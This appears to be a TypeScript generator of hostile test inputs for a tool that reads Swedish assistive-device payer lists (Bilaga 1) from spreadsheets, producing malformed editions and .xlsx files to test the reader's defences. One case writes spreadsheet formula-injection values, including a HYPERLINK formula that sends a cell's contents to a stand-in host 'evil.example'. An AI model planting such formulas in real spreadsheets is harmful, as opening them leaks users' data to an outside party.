import { writeFileSync } from "node:fs";
import * as path from "node:path";
import ExcelJS from "exceljs";
import JSZip from "jszip";
import type { CellValue } from "../../src/core/cells";
import { editionFromModel, serializeEdition } from "../../src/core/editions/edition";
import { readWorkbook } from "../../src/core/model";
import { bilagaRows, sheetXml, withBilaga1 } from "../helpers/hostileXlsx";
import { B3_HEADERS, B4_HEADERS, LIST_HEADERS, listRow, workbook } from "../helpers/workbooks";

/**
 * Inputs of the hostile corpus that are too large, binary or structured to keep as files: each
 * case folder with `"generate": true` in its case.json is filled by the function of its name.
 * Payers follow one pattern throughout: Bilaga 1 says 12 22 is Region in SÄBO (the built-in
 * example says Kommun), so an answer that comes from anywhere else shows.
 */
const R = "Region";
const K = "Kommun";
const LIST: CellValue[][] = [
  [...LIST_HEADERS],
  ["12 22", "Manuella rullstolar", R, K, K, K],
];

/** An .xlsx with the given sheets (name → rows of cells, row 1 first). */
async function xlsx(sheets: ReadonlyArray<readonly [string, ReadonlyArray<ReadonlyArray<CellValue>>]>, hidden: readonly string[] = []): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  for (const [name, rows] of sheets) {
    const ws = wb.addWorksheet(name, hidden.includes(name) ? { state: "hidden" } : {});
    rows.forEach((cells, i) => cells.forEach((v, j) => v !== null && v !== undefined && (ws.getCell(i + 1, j + 1).value = v as ExcelJS.CellValue)));
  }
  return Buffer.from((await wb.xlsx.writeBuffer()) as ArrayBuffer);
}

const OTHER_BILAGOR: ReadonlyArray<readonly [string, CellValue[][]]> = [
  ["Bilaga 2", [[...LIST_HEADERS]]],
  ["Bilaga 3", [[...B3_HEADERS]]],
  ["Bilaga 4", [[...B4_HEADERS]]],
];

const UTGAVA: readonly [string, CellValue[][]] = ["Utgåva", [["Fält", "Värde"], ["Beslutad", "2025-10-01"], ["Giltig från", "2026-01-01"]]];

function wideEdition(): string {
  // 16 384 columns (Excel's widest sheet) × 200 rows, as the probe's 1.76 MB file: every column
  // named, each row with text in a few extra columns, the last one included.
  const extraHeaders = Array.from({ length: 16_384 - LIST_HEADERS.length }, (_, i) => `Extra ${i + 1}`);
  const rows = Array.from({ length: 200 }, (_, r) => {
    const extras: CellValue[] = new Array(extraHeaders.length).fill(null);
    for (const i of [0, r * 80, extraHeaders.length - 1]) extras[i] = `v${r}`;
    return [`12 22 ${String((r % 90) + 10)}`, "Rullstol", R, K, K, K, ...new Array(LIST_HEADERS.length - 6).fill(null), ...extras];
  });
  const raw = { sheets: [{ name: "Bilaga 1", rows: [[...LIST_HEADERS, ...extraHeaders], ...rows] }, ...workbook().sheets.slice(1)] };
  return serializeEdition(editionFromModel(readWorkbook(raw), { name: "bred", decided: "2025-10-01", effective: "2026-01-01" }, raw));
}

function smallEdition() {
  return editionFromModel(readWorkbook(workbook({ b1: [listRow("12 22", "Manuella rullstolar", [R, K, K, K])] })), { name: "2026:1", decided: "2025-10-01", effective: "2026-01-01" });
}

export const GENERATORS: Record<string, (dir: string) => Promise<void>> = {
  async "edition-wide-16384-columns"(dir) {
    writeFileSync(path.join(dir, "bred.json"), wideEdition());
  },

  async "edition-tampered"(dir) {
    const edition = smallEdition();
    const b1 = edition.bilagor.B1!;
    const tampered = { ...edition, bilagor: { ...edition.bilagor, B1: { ...b1, rows: [{ ...b1.rows[0]!, payers: { ...b1.rows[0]!.payers, SABO: "Kommun" } }] } } };
    writeFileSync(path.join(dir, "andrad.json"), serializeEdition(tampered as typeof edition));
  },

  async "edition-utf16le"(dir) {
    const text = serializeEdition(smallEdition());
    writeFileSync(path.join(dir, "utgava.json"), Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]));
  },

  async "xlsx-header-below-row-10"(dir) {
    const b1: CellValue[][] = [["Bilaga 1 – titel"], ...Array.from({ length: 10 }, () => ["(tom rad)"]), ...LIST];
    writeFileSync(path.join(dir, "bilagor.xlsx"), await xlsx([["Bilaga 1", b1], ...OTHER_BILAGOR, UTGAVA]));
  },

  async "xlsx-invisible-sheet-name"(dir) {
    // A zero-width space and a soft hyphen in the sheet name: Excel shows "Bilaga 1".
    writeFileSync(path.join(dir, "bilagor.xlsx"), await xlsx([["Bilaga\u200b 1\u00ad", LIST], ...OTHER_BILAGOR, UTGAVA]));
  },

  async "xlsx-missing-sheet-part"(dir) {
    const zip = await JSZip.loadAsync(await xlsx([["Bilaga 1", LIST], ...OTHER_BILAGOR, UTGAVA]));
    zip.remove("xl/worksheets/sheet1.xml");
    writeFileSync(path.join(dir, "bilagor.xlsx"), await zip.generateAsync({ type: "nodebuffer" }));
  },

  async "xlsx-duplicate-payer-column"(dir) {
    const b1: CellValue[][] = [
      [...LIST_HEADERS, "SÄBO"],
      ["12 22", "Manuella rullstolar", R, K, K, K, ...new Array(LIST_HEADERS.length - 6).fill(null), K],
    ];
    writeFileSync(path.join(dir, "bilagor.xlsx"), await xlsx([["Bilaga 1", b1], ...OTHER_BILAGOR, UTGAVA]));
  },

  async "xlsx-second-bilaga-1"(dir) {
    const other: CellValue[][] = [[...LIST_HEADERS], ["12 22", "Manuella rullstolar", K, K, K, K]];
    writeFileSync(path.join(dir, "bilagor.xlsx"), await xlsx([["Bilaga 1", LIST], ["BILAGA  1", other], ...OTHER_BILAGOR, UTGAVA]));
  },

  async "xlsx-iso-cell-unreadable"(dir) {
    // Row 2 is the finer row (Region); rows 3 and 4 name Kommun under an ISO-kod that is an error and a date.
    const b1: CellValue[][] = [[...LIST_HEADERS], ["12 22 03", "Manuella rullstolar, standard", R, R, R, R], [{ error: "#N/A" } as CellValue, "Rullstolar", K, null, null, null], [new Date(Date.UTC(2026, 11, 22)), "Rullstolar", null, K, null, null]];
    writeFileSync(path.join(dir, "bilagor.xlsx"), await xlsx([["Bilaga 1", b1], ...OTHER_BILAGOR, UTGAVA]));
  },

  async "xlsx-hidden-bilaga-1-copy-visible"(dir) {
    // The Bilaga 1 read is hidden; the copy in view (Excel's "Bilaga 1 (2)") says Kommun.
    const copy: CellValue[][] = [[...LIST_HEADERS], ["12 22", "Manuella rullstolar", K, K, K, K]];
    writeFileSync(path.join(dir, "bilagor.xlsx"), await xlsx([["Bilaga 1", LIST], ["Bilaga 1 (2)", copy], ...OTHER_BILAGOR, UTGAVA], ["Bilaga 1"]));
  },

  async "xlsx-no-permission"(dir) {
    writeFileSync(path.join(dir, "bilagor.xlsx"), await xlsx([["Bilaga 1", LIST], ...OTHER_BILAGOR, UTGAVA]));
  },

  async "publish-long-edition-name"(dir) {
    writeFileSync(path.join(dir, "bilagor.xlsx"), await xlsx([["Bilaga 1", LIST], ...OTHER_BILAGOR, UTGAVA]));
  },

  async "publish-formula-injection"(dir) {
    const b1: CellValue[][] = [
      [...LIST_HEADERS, "=Kommentar"],
      ["12 22", '=HYPERLINK("http://evil.example/?"&A1,"Klicka")', R, K, K, K, ...new Array(LIST_HEADERS.length - 6).fill(null), "@SUM(1+1)"],
      ["12 23", "-2+3", K, K, K, K, ...new Array(LIST_HEADERS.length - 6).fill(null), "+46 8 123"],
    ];
    writeFileSync(path.join(dir, "bilagor.xlsx"), await xlsx([["Bilaga 1", b1], ...OTHER_BILAGOR, UTGAVA]));
  },

  // Sheet-level .xlsx defects of the reader (issue 9, defect 2); zip bombs: test/node/readXlsx.hostile.test.ts.
  async "xlsx-row-beyond-excel"(dir) {
    writeFileSync(path.join(dir, "bilagor.xlsx"), await withBilaga1(sheetXml(`${bilagaRows()}<row r="2000000000"><c r="A2000000000"><v>1</v></c></row>`)));
  },

  async "xlsx-xfd-on-every-row"(dir) {
    const rows = Array.from({ length: 4000 }, (_, i) => `<row r="${i + 3}"><c r="XFD${i + 3}"><v>1</v></c></row>`).join("");
    writeFileSync(path.join(dir, "bilagor.xlsx"), await withBilaga1(sheetXml(bilagaRows() + rows)));
  },

  async "xlsx-text-over-32767"(dir) {
    writeFileSync(path.join(dir, "bilagor.xlsx"), await withBilaga1(sheetXml(`${bilagaRows()}<row r="3"><c r="H3" t="inlineStr"><is><t>${"x".repeat(200_000)}</t></is></c></row>`)));
  },
};
